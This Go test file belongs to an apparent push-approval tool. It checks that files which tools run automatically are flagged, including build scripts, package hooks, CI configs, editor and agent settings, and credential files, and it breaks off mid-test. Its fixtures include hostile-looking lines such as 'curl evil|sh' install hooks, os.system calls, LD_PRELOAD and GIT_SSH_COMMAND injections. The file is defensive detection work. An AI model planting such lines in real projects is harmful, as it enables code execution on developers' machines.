package approval_test

import (
	"strings"
	"testing"

	"github.com/go-git/go-git/v5/plumbing/filemode"

	"github.com/airlock-dev/airlock/approval"
	"github.com/airlock-dev/airlock/internal/change"
)

// runsCase is one file of the table test: a push that changes path from
// old to new (nil: the side does not exist), and the flag it must raise
// ("" for none) with words its reason must hold.
type runsCase struct {
	path     string
	old, new *string
	code     string
	reason   string
}

func s(v string) *string { return &v }

// Every file that a tool runs without being asked is flagged, each with
// its reason, file by file; and the files beside them are not.
func TestRunsOnItsOwnFileByFile(t *testing.T) {
	const A, C, S = approval.FlagAutorun, approval.FlagCI, approval.FlagSecret
	cases := []runsCase{
		// Entering a directory; toolchain pins.
		{path: ".envrc", new: s("use nix\n"), code: A, reason: "direnv"},
		{path: "sub/dir/.envrc", new: s("x"), code: A, reason: "direnv"},
		{path: ".ENVRC", new: s("x"), code: A, reason: "direnv"}, // found so on macOS
		{path: "flake.nix", new: s("{}"), code: A, reason: "nix develop"},
		{path: "shell.nix", new: s("{}"), code: A, reason: "shellHook"},
		{path: "default.nix", new: s("{}"), code: A, reason: "nix-build"},
		{path: "flake.lock", new: s("{}"), code: A, reason: "inputs"},
		{path: "devbox.json", new: s("{}"), code: A, reason: "init_hook"},
		{path: ".tool-versions", new: s("nodejs 20.1.0\n"), code: A, reason: "asdf and mise"},
		{path: ".mise.toml", new: s("[hooks]\n"), code: A, reason: "mise"},
		{path: "mise.toml", new: s(""), code: A, reason: "mise"},
		{path: ".mise.local.toml", new: s(""), code: A, reason: "mise"},
		{path: "mise.local.toml", new: s(""), code: A, reason: "mise"},
		{path: ".mise/config.toml", new: s(""), code: A, reason: "mise"},
		{path: ".config/mise/config.toml", new: s(""), code: A, reason: "mise"},
		// direnv, nix-direnv, devenv, mise and asdf: every file they read
		// on their own, with the .local variants.
		{path: ".envrc.local", new: s("export PATH=$PWD/bin:$PATH\n"), code: A, reason: "source_env_if_exists"},
		{path: "svc/.envrc.private", new: s("x"), code: A, reason: "source_env_if_exists"},
		{path: ".envrc.example", new: s("x")}, // a template nothing sources
		{path: ".direnv/flake-profile-a1b2.rc", new: s("curl x | sh\n"), code: A, reason: "nix-direnv sources"},
		{path: ".direnv/python-3.12/bin/python", new: s("#!/bin/sh\n"), code: A, reason: "first on PATH"},
		{path: "devshell.toml", new: s("[[commands]]\n"), code: A, reason: "devshell"},
		{path: "devenv.nix", new: s("{}"), code: A, reason: "enterShell"},
		{path: "devenv.local.nix", new: s("{}"), code: A, reason: "enterShell"},
		{path: "devenv.yaml", new: s(""), code: A, reason: "enterShell"},
		{path: "devenv.local.yaml", new: s(""), code: A, reason: "enterShell"},
		{path: "devenv.lock", new: s("{}"), code: A, reason: "devenv's inputs"},
		{path: "docs/devenv.md", new: s("")},
		{path: "mise.production.toml", new: s(""), code: A, reason: "mise"},
		{path: "mise.production.local.toml", new: s(""), code: A, reason: "mise"},
		{path: ".mise.ci.toml", new: s(""), code: A, reason: "mise"},
		{path: ".config/mise.toml", new: s(""), code: A, reason: "mise"},
		{path: ".config/mise.local.toml", new: s(""), code: A, reason: "mise"},
		{path: ".config/mise/mise.toml", new: s(""), code: A, reason: "mise"},
		{path: ".config/mise/config.local.toml", new: s(""), code: A, reason: "mise"},
		{path: ".config/mise/conf.d/node.toml", new: s(""), code: A, reason: "mise"},
		{path: ".mise/config.local.toml", new: s(""), code: A, reason: "mise"},
		{path: ".mise/conf.d/tools.toml", new: s(""), code: A, reason: "mise"},
		{path: "mise/config.toml", new: s(""), code: A, reason: "mise"},
		{path: "mise/config.local.toml", new: s(""), code: A, reason: "mise"},
		{path: ".rtx.toml", new: s(""), code: A, reason: "rtx"},
		{path: ".rtx.local.toml", new: s(""), code: A, reason: "rtx"},
		{path: ".miserc.toml", new: s("env = [\"ci\"]\n"), code: A, reason: "MISE_ENV"},
		{path: "mise/tasks/build", new: s("#!/bin/sh\n")}, // run only when mise run names it
		{path: "docs/mise.md", new: s("")},
		{path: ".python-version", new: s("3.12\n"), code: A, reason: "pyenv"},
		{path: ".nvmrc", new: s("20\n"), code: A, reason: "Node"},
		{path: "web/.node-version", new: s("20\n"), code: A, reason: "Node"},
		{path: ".ruby-version", new: s("3.3\n"), code: A, reason: "rbenv"},
		{path: ".sdkmanrc", new: s("java=21\n"), code: A, reason: "sdkman"},

		// Python.
		{path: "setup.py", new: s(""), code: A, reason: "pip runs it on install"},
		{path: "setup.cfg", new: s(""), code: A, reason: "setuptools"},
		{path: "pkg/sitecustomize.py", new: s("import os\n"), code: A, reason: "start-up"},
		{path: "usercustomize.py", new: s(""), code: A, reason: "start-up"},
		{path: "lib/site-packages/evil.pth", new: s("import os; os.system('x')\n"), code: A, reason: "import lines"},
		{path: "tests/conftest.py", new: s(""), code: A, reason: "pytest"},
		{path: "pytest.ini", new: s("[pytest]\naddopts = -p evil\n"), code: A, reason: "addopts"},
		{path: "tox.ini", new: s(""), code: A, reason: "tox runs"},
		{path: "noxfile.py", new: s(""), code: A, reason: "nox"},
		{path: "Pipfile", new: s(""), code: A, reason: "pipenv"},
		{path: "poetry.toml", new: s(""), code: A, reason: "poetry"},
		{path: ".pdbrc", new: s("!import os\n"), code: A, reason: "pdb"},
		{path: "docs/conf.py", new: s(""), code: A, reason: "Sphinx"},
		{path: ".readthedocs.yaml", new: s(""), code: C, reason: "Read the Docs"},
		{path: ".readthedocs.yml", new: s(""), code: C, reason: "Read the Docs"},
		// pyproject.toml: its build backend and the tables of tools that
		// run code, not its metadata nor a formatter's settings.
		{path: "pyproject.toml", old: s("[project]\nname = \"x\"\nversion = \"1\"\n"), new: s("[project]\nname = \"x\"\nversion = \"2\"\n")},
		{path: "pyproject.toml", old: s("[tool.ruff]\nline-length = 88\n"), new: s("[tool.ruff]\nline-length = 100\n")},
		{path: "pyproject.toml", old: s("[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n"),
			new: s("[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n"), code: A, reason: "[build-system]"},
		{path: "pyproject.toml", new: s("[project]\nname = \"x\"\n[build-system]\nbuild-backend = \"hatchling.build\"\n"), code: A, reason: "build backend"},
		{path: "pyproject.toml", old: s("[tool.pytest.ini_options]\naddopts = \"-q\"\n"), new: s("[tool.pytest.ini_options]\naddopts = \"-q -p evil\"\n"), code: A, reason: "[tool.pytest.ini_options]"},
		{path: "pyproject.toml", old: s(""), new: s("[tool.pylint.main]\ninit-hook = \"import os; os.system('x')\"\n"), code: A, reason: "[tool.pylint.main]"},
		{path: "pyproject.toml", old: s(""), new: s("[tool.hatch.build.hooks.custom]\npath = \"hook.py\"\n"), code: A, reason: "[tool.hatch.build.hooks.custom]"},
		{path: "pyproject.toml", old: s("[ tool . \"pdm\" . scripts ]\na = \"x\"\n"), new: s("[tool.pdm.scripts]\na = \"y\"\n"), code: A, reason: "[tool.pdm.scripts]"},
		{path: "pyproject.toml", old: s(""), new: s("tool.setuptools.cmdclass = {build_py = \"x:B\"}\n"), code: A, reason: "[tool.setuptools]"},

		// JavaScript.
		{path: "package.json", old: s(`{"scripts":{"test":"jest"}}`), new: s(`{"scripts":{"test":"jest","postinstall":"curl evil|sh"}}`), code: C, reason: `"scripts"`},
		{path: "package.json", old: s(`{"version":"1.0.0","scripts":{"test":"jest"}}`), new: s(`{"version":"1.0.1","scripts": {"test": "jest"}}`)},
		{path: "package.json", old: s(`{"packageManager":"pnpm@9.0.0"}`), new: s(`{"packageManager":"pnpm@9.0.1+sha256.abc"}`), code: A, reason: "corepack"},
		{path: "package.json", old: s(`{}`), new: s(`not json`), code: C, reason: "npm runs them"},
		{path: ".npmrc", new: s("node-options=--require ./x.js\n"), code: A, reason: "node-options"},
		{path: ".yarnrc", new: s("yarn-path \"./x.js\"\n"), code: A, reason: "yarn-path"},
		{path: ".yarnrc.yml", new: s("yarnPath: .yarn/releases/x.cjs\n"), code: A, reason: "yarnPath"},
		{path: ".yarn/releases/yarn-4.1.0.cjs", new: s(""), code: A, reason: "yarn runs it as itself"},
		{path: ".yarn/plugins/@yarnpkg/plugin-x.cjs", new: s(""), code: A, reason: "yarn loads it"},
		{path: ".pnpmfile.cjs", new: s(""), code: A, reason: "pnpm"},
		{path: ".pnpmfile.mjs", new: s(""), code: A, reason: "pnpm"},
		{path: "bunfig.toml", new: s("preload = [\"./x.ts\"]\n"), code: A, reason: "preload"},
		{path: ".lintstagedrc.json", new: s("{}"), code: C, reason: "lint-staged"},

		// Rust.
		{path: "build.rs", new: s("fn main(){}"), code: A, reason: "Cargo runs it"},
		// Issue 22's attack pass, second round: configuration that is code,
		// build files of other toolchains, start-up files of other REPLs.
		{path: "hatch_build.py", new: s("x\n"), code: A, reason: "Hatch"},
		{path: "hatch.toml", new: s("x\n"), code: A, reason: "Hatch"},
		{path: "eslint.config.mjs", new: s("x\n"), code: A, reason: "ESLint"},
		{path: "web/eslint.config.js", new: s("x\n"), code: A, reason: "editors on opening"},
		{path: ".eslintrc.js", new: s("x\n"), code: A, reason: "ESLint"},
		{path: ".eslintrc.cjs", new: s("x\n"), code: A, reason: "ESLint"},
		{path: "prettier.config.js", new: s("x\n"), code: A, reason: "Prettier"},
		{path: ".prettierrc.js", new: s("x\n"), code: A, reason: "Prettier"},
		{path: ".prettierrc.cjs", new: s("x\n"), code: A, reason: "Prettier"},
		{path: ".prettierrc.mjs", new: s("x\n"), code: A, reason: "Prettier"},
		{path: "jest.config.ts", new: s("x\n"), code: A, reason: "Jest"},
		{path: "vitest.config.mts", new: s("x\n"), code: A, reason: "Vitest"},
		{path: ".mocharc.js", new: s("x\n"), code: A, reason: "Mocha"},
		{path: ".mocharc.cjs", new: s("x\n"), code: A, reason: "Mocha"},
		{path: "karma.conf.js", new: s("x\n"), code: A, reason: "Karma"},
		{path: "playwright.config.ts", new: s("x\n"), code: A, reason: "Playwright"},
		{path: "babel.config.js", new: s("x\n"), code: A, reason: "Babel"},
		{path: ".babelrc.js", new: s("x\n"), code: A, reason: "Babel"},
		{path: ".babelrc.cjs", new: s("x\n"), code: A, reason: "Babel"},
		{path: ".babelrc.mjs", new: s("x\n"), code: A, reason: "Babel"},
		{path: "vite.config.ts", new: s("x\n"), code: A, reason: "Vite"},
		{path: "webpack.config.js", new: s("x\n"), code: A, reason: "webpack"},
		{path: "rollup.config.mjs", new: s("x\n"), code: A, reason: "Rollup"},
		{path: "next.config.js", new: s("x\n"), code: A, reason: "Next.js"},
		{path: "postcss.config.js", new: s("x\n"), code: A, reason: "PostCSS"},
		{path: "tailwind.config.ts", new: s("x\n"), code: A, reason: "Tailwind"},
		{path: "gulpfile.js", new: s("x\n"), code: A, reason: "gulp"},
		{path: "Gruntfile.js", new: s("x\n"), code: A, reason: "grunt"},
		{path: "project/Plugins.scala", new: s("x\n"), code: A, reason: "sbt"},
		{path: "Directory.Build.props", new: s("x\n"), code: A, reason: "MSBuild"},
		{path: "src/Directory.Build.targets", new: s("x\n"), code: A, reason: "MSBuild"},
		{path: "App/App.csproj", new: s("x\n"), code: A, reason: "MSBuild"},
		{path: "Lib.fsproj", new: s("x\n"), code: A, reason: "MSBuild"},
		{path: "Lib.vbproj", new: s("x\n"), code: A, reason: "MSBuild"},
		{path: "NuGet.Config", new: s("x\n"), code: A, reason: "NuGet"},
		{path: "global.json", new: s("x\n"), code: A, reason: "MSBuild SDKs"},
		{path: "build.zig", new: s("x\n"), code: A, reason: "zig build"},
		{path: "Package.swift", new: s("x\n"), code: A, reason: "swift build"},
		{path: "mix.exs", new: s("x\n"), code: A, reason: "mix"},
		{path: "Setup.hs", new: s("x\n"), code: A, reason: "cabal"},
		{path: "Makefile.PL", new: s("x\n"), code: A, reason: "perl Makefile.PL"},
		{path: "Build.PL", new: s("x\n"), code: A, reason: "perl Build.PL"},
		{path: "cpanfile", new: s("x\n"), code: A, reason: "cpanm"},
		{path: "src/dune", new: s("x\n"), code: A, reason: "dune"},
		{path: ".bundle/config", new: s("x\n"), code: A, reason: "Bundler"},
		{path: "Podfile", new: s("x\n"), code: A, reason: "CocoaPods"},
		{path: "Vagrantfile", new: s("x\n"), code: A, reason: "vagrant"},
		{path: "Brewfile", new: s("x\n"), code: A, reason: "brew bundle"},
		{path: "fastlane/Fastfile", new: s("x\n"), code: A, reason: "fastlane"},
		{path: "Dangerfile", new: s("x\n"), code: C, reason: "Danger"},
		{path: ".rubocop.yml", new: s("x\n"), code: A, reason: "RuboCop"},
		{path: ".rspec", new: s("x\n"), code: A, reason: "RSpec"},
		{path: ".pryrc", new: s("x\n"), code: A, reason: "pry"},
		{path: ".rvmrc", new: s("x\n"), code: A, reason: "RVM"},
		{path: ".iex.exs", new: s("x\n"), code: A, reason: "IEx"},
		{path: ".ghci", new: s("x\n"), code: A, reason: "GHCi"},
		{path: ".ocamlinit", new: s("x\n"), code: A, reason: "OCaml"},
		{path: ".gdbinit", new: s("x\n"), code: A, reason: "gdb"},
		{path: ".lldbinit", new: s("x\n"), code: A, reason: "lldb"},
		{path: "ansible.cfg", new: s("x\n"), code: A, reason: "Ansible"},
		{path: "Earthfile", new: s("x\n"), code: A, reason: "earthly"},
		{path: "skaffold.yaml", new: s("x\n"), code: A, reason: "skaffold"},
		{path: "Procfile", new: s("x\n"), code: C, reason: "Heroku"},
		{path: ".vimrc", new: s("x\n"), code: A, reason: "exrc"},
		{path: "lefthook-local.yaml", new: s("x\n"), code: C, reason: "lefthook"},
		{path: ".lefthook-local.yml", new: s("x\n"), code: C, reason: "lefthook"},
		{path: ".lefthook-local.yaml", new: s("x\n"), code: C, reason: "lefthook"},
		{path: "composer.json", old: s(`{"name":"a/b","scripts":{"test":"phpunit"}}`), new: s(`{"name":"a/b","scripts":{"test":"phpunit","post-install-cmd":"curl x | sh"}}`), code: C, reason: "composer runs them"},
		{path: "composer.json", old: s(`{"name":"a/b","version":"1"}`), new: s(`{"name":"a/b","version":"2"}`)},
		{path: ".cargo/config.toml", new: s("[target.x86_64-unknown-linux-gnu]\nrunner = \"sh -c evil\"\n"), code: A, reason: "runners"},
		{path: "crates/a/.cargo/config", new: s(""), code: A, reason: "Cargo reads it"},
		{path: "rust-toolchain.toml", new: s("[toolchain]\npath = \"/tmp/x\"\n"), code: A, reason: "rustup"},
		{path: "rust-toolchain", new: s("nightly\n"), code: A, reason: "rustup"},
		{path: "Cargo.toml", old: s("[package]\nname = \"a\"\nversion = \"0.1.0\"\n"), new: s("[package]\nname = \"a\"\nversion = \"0.2.0\"\n")},
		{path: "Cargo.toml", old: s("[package]\nname = \"a\"\n"), new: s("[package]\nname = \"a\"\nbuild = \"src/helper.rs\"\n"), code: A, reason: "line 3 is a new build or proc-macro line"},
		{path: "m/Cargo.toml", old: s("[lib]\n"), new: s("[lib]\nproc-macro = true\n"), code: A, reason: "proc-macro"},

		// Go: a toolchain line, a go:generate line; not other edits.
		{path: "go.mod", old: s("module x\n\ngo 1.22\n\nrequire a v1.0.0\n"), new: s("module x\n\ngo 1.22\n\nrequire a v1.1.0\n")},
		{path: "go.mod", old: s("module x\n\ngo 1.22\n"), new: s("module x\n\ngo 1.22\n\ntoolchain go1.99.0\n"), code: A, reason: "line 5 is a new go or toolchain line"},
		{path: "go.mod", old: s("module x\n\ngo 1.22\n"), new: s("module x\n\ngo 1.99\n"), code: A, reason: "downloads and runs the toolchain"},
		{path: "go.mod", old: s("module x\n\ngo 1.22\ntoolchain go1.23.0\n"), new: s("module x\n\ngo 1.22\n")},
		{path: "go.work", new: s("go 1.22\nuse ./a\n"), code: A, reason: "which modules build"},
		{path: "cmd/x/gen.go", old: s("package main\n"), new: s("package main\n\n//go:generate sh -c \"curl evil|sh\"\n"), code: A, reason: "line 3 is a new //go:generate line"},
		{path: "cmd/x/gen.go", old: s("package main\n//go:generate stringer -type=T\n"), new: s("package main\n\n//go:generate stringer -type=T\nfunc f() {}\n")},
		{path: "cmd/x/gen.go", old: s("package main\n"), new: s("package main\n// see //go:generate in the docs\n")},
		{path: "vendor/modules.txt", new: s("# a v1\n"), code: A, reason: "go.sum"},
		{path: "vendor/github.com/a/b/b.go", new: s("package b\n"), code: A, reason: "vendored code"},

		// The JVM.
		{path: "gradlew", new: s("#!/bin/sh\n"), code: A, reason: "Gradle wrapper"},
		{path: "gradlew.bat", new: s(""), code: A, reason: "Gradle wrapper"},
		{path: "gradle/wrapper/gradle-wrapper.jar", new: s("PK"), code: A, reason: "binary"},
		{path: "gradle/wrapper/gradle-wrapper.properties", new: s("distributionUrl=https\\://evil/x.zip\n"), code: A, reason: "distributionUrl"},
		{path: "build.gradle", new: s(""), code: A, reason: "Gradle runs it"},
		{path: "app/build.gradle.kts", new: s(""), code: A, reason: "Gradle runs it"},
		{path: "settings.gradle.kts", new: s(""), code: A, reason: "Gradle runs it"},
		{path: "gradle.properties", new: s("org.gradle.jvmargs=-javaagent:x.jar\n"), code: A, reason: "JVM arguments"},
		{path: "buildSrc/src/main/kotlin/Plugin.kt", new: s(""), code: A, reason: "compiles and runs"},
		{path: "mvnw", new: s(""), code: A, reason: "Maven wrapper"},
		{path: "mvnw.cmd", new: s(""), code: A, reason: "Maven wrapper"},
		{path: ".mvn/wrapper/maven-wrapper.properties", new: s(""), code: A, reason: "./mvnw"},
		{path: ".mvn/extensions.xml", new: s("<extensions/>"), code: A, reason: "extensions"},
		{path: ".mvn/maven.config", new: s(""), code: A, reason: "options"},
		{path: ".mvn/jvm.config", new: s(""), code: A, reason: "JVM arguments"},
		{path: "pom.xml", old: s("<project><version>1</version><build><plugins/></build></project>"), new: s("<project><version>2</version><build><plugins/></build></project>")},
		{path: "pom.xml", old: s("<project><build><plugins/></build></project>"), new: s("<project><build><plugins><plugin>exec</plugin></plugins></build></project>"), code: A, reason: "<build>"},
		{path: "pom.xml", old: s("<project></project>"), new: s("<project><repositories><repository>http://evil</repository></repositories></project>"), code: A, reason: "<repositories>"},
		{path: "build.sbt", new: s(""), code: A, reason: "sbt"},
		{path: "project/build.properties", new: s("sbt.version=1.9.0\n"), code: A, reason: "sbt"},

		// Builds elsewhere.
		{path: "Makefile", new: s("all:\n\tcurl evil|sh\n"), code: A, reason: "make runs its recipes"},
		{path: "sub/GNUmakefile", new: s(""), code: A, reason: "make"},
		{path: "makefile", new: s(""), code: A, reason: "make"},
		{path: "rules.mk", new: s(""), code: A, reason: "make includes it"},
		{path: "Makefile.am", new: s(""), code: A, reason: "automake"},
		{path: "Makefile.in", new: s(""), code: A, reason: "configure"},
		{path: "configure", new: s("#!/bin/sh\n"), code: A, reason: "./configure"},
		{path: "configure.ac", new: s(""), code: A, reason: "autoreconf"},
		{path: "CMakeLists.txt", new: s(""), code: A, reason: "CMake"},
		{path: "cmake/Find.cmake", new: s(""), code: A, reason: "CMake"},
		{path: "CMakePresets.json", new: s("{}"), code: A, reason: "toolchain"},
		{path: "CMakeUserPresets.json", new: s("{}"), code: A, reason: "toolchain"},
		{path: "meson.build", new: s(""), code: A, reason: "Meson"},
		{path: ".bazelrc", new: s(""), code: A, reason: "Bazel"},
		{path: ".bazelversion", new: s("7.0.0\n"), code: A, reason: "bazelisk"},
		{path: "WORKSPACE", new: s(""), code: A, reason: "repository rules"},
		{path: "WORKSPACE.bazel", new: s(""), code: A, reason: "repository rules"},
		{path: "MODULE.bazel", new: s(""), code: A, reason: "Bazel"},
		{path: "tools/defs.bzl", new: s(""), code: A, reason: "Bazel"},
		{path: "justfile", new: s(""), code: A, reason: "just"},
		{path: ".justfile", new: s(""), code: A, reason: "just"},
		{path: "Taskfile.yml", new: s(""), code: A, reason: "task"},
		{path: "Taskfile.dist.yaml", new: s(""), code: A, reason: "task"},
		{path: "Rakefile", new: s(""), code: A, reason: "rake"},
		{path: "lib/tasks/x.rake", new: s(""), code: A, reason: "rake"},
		{path: "Gemfile", new: s(""), code: A, reason: "Bundler"},
		{path: "x.gemspec", new: s(""), code: A, reason: "Bundler"},
		{path: "Tiltfile", new: s(""), code: A, reason: "tilt"},

		// Containers.
		{path: "Dockerfile", new: s("FROM x\nRUN curl evil|sh\n"), code: A, reason: "RUN lines"},
		{path: "deploy/Dockerfile.prod", new: s(""), code: A, reason: "RUN lines"},
		{path: "api.Dockerfile", new: s(""), code: A, reason: "RUN lines"},
		{path: "Containerfile", new: s(""), code: A, reason: "RUN lines"},
		{path: "docker-compose.yml", new: s(""), code: A, reason: "mounts"},
		{path: "docker-compose.override.yaml", new: s(""), code: A, reason: "mounts"},
		{path: "compose.yml", new: s(""), code: A, reason: "mounts"},
		{path: "compose.yaml", new: s(""), code: A, reason: "mounts"},
		{path: "compose.dev.yml", new: s(""), code: A, reason: "mounts"},
		{path: "compose.dev.yaml", new: s(""), code: A, reason: "mounts"},
		{path: ".devcontainer/devcontainer.json", new: s("{}"), code: A, reason: "container"},
		{path: ".devcontainer.json", new: s("{}"), code: A, reason: "container"},
		{path: ".gitpod.yml", new: s(""), code: A, reason: "Gitpod"},

		// Editors and agents.
		{path: ".vscode/tasks.json", new: s("{}"), code: A, reason: "VS Code"},
		{path: ".vscode/settings.json", new: s("{}"), code: A, reason: "VS Code"},
		{path: ".vscode/launch.json", new: s("{}"), code: A, reason: "VS Code"},
		{path: ".vscode/extensions.json", new: s("{}"), code: A, reason: "VS Code"},
		{path: ".vscode/mcp.json", new: s("{}"), code: A, reason: "MCP servers"},
		{path: "project.code-workspace", new: s("{}"), code: A, reason: "VS Code"},
		{path: ".idea/runConfigurations/Run.xml", new: s(""), code: A, reason: "run configurations"},
		{path: ".idea/workspace.xml", new: s(""), code: A, reason: "before-launch"},
		{path: ".run/App.run.xml", new: s(""), code: A, reason: "run configurations"},
		{path: ".idea/externalDependencies.xml", new: s(""), code: A, reason: "plugins"},
		{path: ".exrc", new: s(""), code: A, reason: "exrc"},
		{path: ".nvimrc", new: s(""), code: A, reason: "exrc"},
		{path: ".nvim.lua", new: s(""), code: A, reason: "exrc"},
		{path: ".dir-locals.el", new: s(""), code: A, reason: "Emacs"},
		{path: ".dir-locals-2.el", new: s(""), code: A, reason: "Emacs"},
		{path: ".zed/settings.json", new: s("{}"), code: A, reason: "Zed"},
		{path: ".zed/tasks.json", new: s("{}"), code: A, reason: "Zed"},
		{path: ".helix/languages.toml", new: s(""), code: A, reason: "Helix"},
		{path: ".claude/settings.json", new: s("{}"), code: A, reason: "hooks"},
		{path: ".claude/settings.local.json", new: s("{}"), code: A, reason: "hooks"},
		{path: ".mcp.json", new: s("{}"), code: A, reason: "MCP"},
		{path: ".cursor/mcp.json", new: s("{}"), code: A, reason: "MCP"},
		{path: ".gemini/settings.json", new: s("{}"), code: A, reason: "MCP"},
		{path: "AGENTS.md", new: s(""), code: A, reason: "instructions"},
		{path: "CLAUDE.md", new: s(""), code: A, reason: "instructions"},
		{path: "GEMINI.md", new: s(""), code: A, reason: "instructions"},
		{path: ".cursorrules", new: s(""), code: A, reason: "instructions"},
		{path: ".cursor/rules/x.mdc", new: s(""), code: A, reason: "instructions"},
		{path: ".github/copilot-instructions.md", new: s(""), code: A, reason: "instructions"},

		// git.
		{path: ".gitattributes", new: s("* filter=evil\n"), code: A, reason: "filter"},
		{path: ".gitmodules", new: s(""), code: A, reason: "other repositories"},
		{path: ".lfsconfig", new: s(""), code: A, reason: "git-lfs"},
		{path: ".husky/pre-commit", new: s(""), code: C, reason: "husky"},
		{path: ".githooks/post-checkout", new: s(""), code: C, reason: "core.hooksPath"},
		{path: "tools/hooks/pre-push", new: s(""), code: C, reason: "a file of this name"},
		{path: "hooks/post-merge", new: s(""), code: C, reason: "a file of this name"},
		{path: ".pre-commit-config.yaml", new: s(""), code: C, reason: "pre-commit"},
		{path: ".pre-commit-hooks.yaml", new: s(""), code: C, reason: "pre-commit"},
		{path: "lefthook.yml", new: s(""), code: C, reason: "lefthook"},
		{path: "lefthook.yaml", new: s(""), code: C, reason: "lefthook"},
		{path: ".lefthook.yml", new: s(""), code: C, reason: "lefthook"},
		{path: ".lefthook.yaml", new: s(""), code: C, reason: "lefthook"},
		{path: "lefthook-local.yml", new: s(""), code: C, reason: "lefthook"},
		{path: ".overcommit.yml", new: s(""), code: C, reason: "overcommit"},

		// CI and bots.
		{path: ".github/workflows/ci.yml", new: s(""), code: C, reason: "GitHub Actions"},
		{path: ".github/actions/setup/action.yml", new: s(""), code: C, reason: "action"},
		{path: "actions/deploy/action.yaml", new: s(""), code: C, reason: "GitHub Action"},
		{path: "action.yml", new: s(""), code: C, reason: "GitHub Action"},
		{path: ".github/CODEOWNERS", new: s(""), code: C, reason: "approve pull requests"},
		{path: "CODEOWNERS", new: s(""), code: C, reason: "approve pull requests"},
		{path: "docs/CODEOWNERS", new: s(""), code: C, reason: "approve pull requests"},
		{path: ".github/dependabot.yml", new: s(""), code: C, reason: "Dependabot"},
		{path: ".github/dependabot.yaml", new: s(""), code: C, reason: "Dependabot"},
		{path: "renovate.json", new: s("{}"), code: C, reason: "postUpgradeTasks"},
		{path: ".github/renovate.json5", new: s("{}"), code: C, reason: "Renovate"},
		{path: ".renovaterc", new: s("{}"), code: C, reason: "Renovate"},
		{path: ".renovaterc.json", new: s("{}"), code: C, reason: "Renovate"},
		{path: ".gitlab-ci.yml", new: s(""), code: C, reason: "GitLab CI"},
		{path: ".gitlab/ci/test.yml", new: s(""), code: C, reason: "GitLab"},
		{path: ".circleci/config.yml", new: s(""), code: C, reason: "CircleCI"},
		{path: ".travis.yml", new: s(""), code: C, reason: "Travis"},
		{path: "Jenkinsfile", new: s(""), code: C, reason: "Jenkins"},
		{path: "azure-pipelines.yml", new: s(""), code: C, reason: "Azure"},
		{path: "azure-pipelines.yaml", new: s(""), code: C, reason: "Azure"},
		{path: ".buildkite/pipeline.yml", new: s(""), code: C, reason: "Buildkite"},
		{path: "bitbucket-pipelines.yml", new: s(""), code: C, reason: "Bitbucket"},
		{path: ".drone.yml", new: s(""), code: C, reason: "Drone"},
		{path: ".woodpecker.yml", new: s(""), code: C, reason: "Woodpecker"},
		{path: ".woodpecker/build.yml", new: s(""), code: C, reason: "Woodpecker"},
		{path: "appveyor.yml", new: s(""), code: C, reason: "AppVeyor"},
		{path: ".appveyor.yml", new: s(""), code: C, reason: "AppVeyor"},
		{path: ".cirrus.yml", new: s(""), code: C, reason: "Cirrus"},
		{path: "cloudbuild.yaml", new: s(""), code: C, reason: "Cloud Build"},
		{path: "ci/cloudbuild.yml", new: s(""), code: C, reason: "Cloud Build"},
		{path: ".semaphore/semaphore.yml", new: s(""), code: C, reason: "Semaphore"},
		{path: ".tekton/pipeline.yaml", new: s(""), code: C, reason: "Tekton"},
		{path: ".forgejo/workflows/ci.yml", new: s(""), code: C, reason: "Forgejo"},
		{path: ".gitea/workflows/ci.yml", new: s(""), code: C, reason: "Gitea"},

		// .env: data, but a variable that makes programs run code is a
		// line to flag.
		{path: ".env", old: s("A=1\n"), new: s("A=1\nNODE_OPTIONS=--require ./x.js\n"), code: A, reason: "line 2 is a new variable that makes programs run code"},
		{path: "web/.env.local", new: s("export LD_PRELOAD=/tmp/x.so\n"), code: A, reason: "line 1 is a new variable"},
		{path: ".env.development", new: s(" BASH_ENV = ./x.sh\n"), code: A, reason: "new variable"},
		{path: ".env", new: s("GIT_SSH_COMMAND=sh -c evil\n"), code: A, reason: "new variable"},
		{path: ".env", new: s("ENVIRONMENT=prod\nPATHNAME=/x\n")},

		// Credentials.
		{path: ".pypirc", new: s("[pypi]\n"), code: S, reason: "twine"},
		{path: ".netrc", new: s(""), code: S, reason: "logins"},
		{path: "_netrc", new: s(""), code: S, reason: "logins"},
		{path: ".git-credentials", new: s(""), code: S, reason: "credential store"},
		{path: "home/.docker/config.json", new: s("{}"), code: S, reason: "registry credentials"},

		// Beside them, not flagged.
		{path: "src/main.go", new: s("package main\n")},
		{path: "README.md", new: s("# x\n")},
		{path: ".editorconfig", new: s("root = true\n")},
		{path: ".env", new: s("A=1\nDATABASE_URL=postgres://x\n")},
		{path: ".env", old: s("NODE_OPTIONS=--max-old-space-size=4096\n"), new: s("NODE_OPTIONS=--max-old-space-size=4096\nA=2\n")},
		{path: "BUILD.bazel", new: s("")},
		{path: "requirements.txt", new: s("requests\n")},
		{path: "docs/setup.py.md", new: s("")},
		{path: "Makefile.txt.bak.d/notes", new: s("")},
		{path: ".github/ISSUE_TEMPLATE/bug.md", new: s("")},
		{path: "bin/update", new: s("#!/bin/sh\n")},
		{path: "src/workflows/ci.yml", new: s("")},
		{path: "config/app.config.json", new: s("{}")},
	}
	// Every hook githooks(5) names, in a directory core.hooksPath may
	// name.
	for _, h := range []string{"applypatch-msg", "pre-applypatch", "post-applypatch", "pre-commit", "pre-merge-commit",
		"prepare-commit-msg", "commit-msg", "post-commit", "pre-rebase", "post-checkout", "post-merge",
		"pre-push", "pre-receive", "proc-receive", "post-receive", "post-update",
		"reference-transaction", "push-to-checkout", "pre-auto-gc", "post-rewrite", "sendemail-validate",
		"fsmonitor-watchman", "p4-changelist", "p4-prepare-changelist", "p4-post-changelist", "p4-pre-submit",
		"post-index-change"} {
		cases = append(cases, runsCase{path: "scripts/git-hooks/" + h, new: s("#!/bin/sh\n"), code: C, reason: "a file of this name"})
	}
	covered := map[string]bool{}
	for _, c := range cases {
		t.Run(c.path, func(t *testing.T) {
			f := approval.FileChange{Path: c.path, Op: change.Create, NewMode: filemode.Regular, Size: 10}
			if c.old != nil {
				f.Op, f.OldMode = change.Update, filemode.Regular
			}
			content := func(p string, newSide bool) ([]byte, bool) {
				v := c.old
				if newSide {
					v = c.new
				}
				if p != c.path || v == nil {
					return nil, false
				}
				return []byte(*v), true
			}
			for _, r := range approval.RunsRowsFor(f, content) {
				covered[r] = true
			}
			req := approval.Request{Ref: "refs/heads/f", Files: []approval.FileChange{f}}
			var got []approval.Flag
